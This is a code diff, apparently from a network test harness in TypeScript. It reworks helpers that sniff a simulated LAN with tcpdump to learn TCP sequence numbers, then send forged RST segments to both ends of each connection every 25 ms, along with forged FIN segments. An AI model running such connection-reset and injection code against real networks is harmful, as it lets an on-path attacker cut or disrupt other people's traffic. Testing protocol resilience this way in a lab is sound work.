@@ -120,12 +120,18 @@ interface End {
 
 const flowOf = (from: End, to: End): string => [from.host, from.port, to.host, to.port].join(' ')
 
+function endsOf(flow: string): readonly [End, End] {
+  const [host = '', port = '', toHost = '', toPort = ''] = flow.split(' ')
+  return [
+    { host, port },
+    { host: toHost, port: toPort }
+  ]
+}
+
 /** Somebody who reads all that goes over the pair's TCP ports. */
 export interface PathReader extends Attack {
-  /** The next sequence number of each direction of each connection, by `flowOf`. */
+  /** The next sequence number of each direction of each connection, by `flowOf`; what was heard of last comes last. */
   readonly next: ReadonlyMap<string, string>
-  /** Called with each direction whose next sequence number has become known. */
-  onNext: (from: End, to: End, seq: string) => void
 }
 
 export async function readPath(lan: Lan, ports: readonly number[]): Promise<PathReader> {
@@ -133,10 +139,9 @@ export async function readPath(lan: Lan, ports: readonly number[]): Promise<Path
   const child = within(lan.switch, 'tcpdump', '-i', 'lan0-a', '-n', '-S', '-l', filter)
   await Promise.race([once(child.stderr as NodeJS.ReadableStream, 'data'), once(child, 'exit')])
   const next = new Map<string, string>()
-  const reader: PathReader = { ...attackOf([child]), next, onNext: () => {} }
   const learn = (from: End, to: End, seq: string): void => {
+    next.delete(flowOf(from, to))
     next.set(flowOf(from, to), seq)
-    reader.onNext(from, to, seq)
   }
   createInterface({ input: child.stdout as NodeJS.ReadableStream }).on('line', (line) => {
     const [, fromHost, fromPort, toHost, toPort, flags = '', seq, ack] = SEGMENT.exec(line) ?? []
@@ -149,7 +154,7 @@ export async function readPath(lan: Lan, ports: readonly number[]): Promise<Path
     if (seq !== undefined) learn(from, to, String((Number(seq) + (/[SF]/.test(flags) ? 1 : 0)) >>> 0))
     if (ack !== undefined) learn(to, from, ack)
   })
-  return reader
+  return { ...attackOf([child]), next }
 }
 
 let underWay = 0
@@ -166,28 +171,35 @@ function segment(lan: Lan, from: End, to: End, ...flags: readonly string[]): boo
   return true
 }
 
+const RESET_EVERY_MS = 25
+/** Two connections of four pairs, two directions each. */
+const RESET_FLOWS_MAX = 16
+
 /**
- * Resets that fit: the attacker reads the path, and answers each segment of the pair's connections with a reset to both ends whose
- * sequence number is the one that is expected. `count` tells how many were sent.
+ * Resets that fit: the attacker reads the path, and resets both ends of each connection that he sees, again and again, with the number
+ * that is expected. `count` tells how many were sent.
  */
 export async function fittingResets(lan: Lan, ports: readonly number[]): Promise<Attack & { count(): number }> {
   const reader = await readPath(lan, ports)
   let count = 0
-  reader.onNext = (from, to, seq) => {
-    if (segment(lan, from, to, '-R', '-M', seq)) count++
+  const timer = setInterval(() => {
+    for (const [flow, seq] of [...reader.next].slice(-RESET_FLOWS_MAX)) {
+      const [from, to] = endsOf(flow)
+      if (segment(lan, from, to, '-R', '-M', seq)) count++
+    }
+  }, RESET_EVERY_MS)
+  const stop = (): void => {
+    clearInterval(timer)
+    reader.stop()
   }
-  return { stop: () => reader.stop(), count: () => count }
+  return { stop, count: () => count }
 }
 
 /** A FIN that fits, for both directions of all connections that were read. Returns how many. */
 export async function forgedEnds(lan: Lan, { next }: PathReader): Promise<number> {
   let count = 0
   for (const [flow, seq] of next) {
-    const [host = '', port = '', toHost = '', toPort = ''] = flow.split(' ')
-    const [from, to] = [
-      { host, port },
-      { host: toHost, port: toPort }
-    ]
+    const [from, to] = endsOf(flow)
     const ack = next.get(flowOf(to, from))
     if (ack === undefined) continue
     while (!segment(lan, from, to, '-F', '-A', '-M', seq, '-L', ack)) await pause(5)
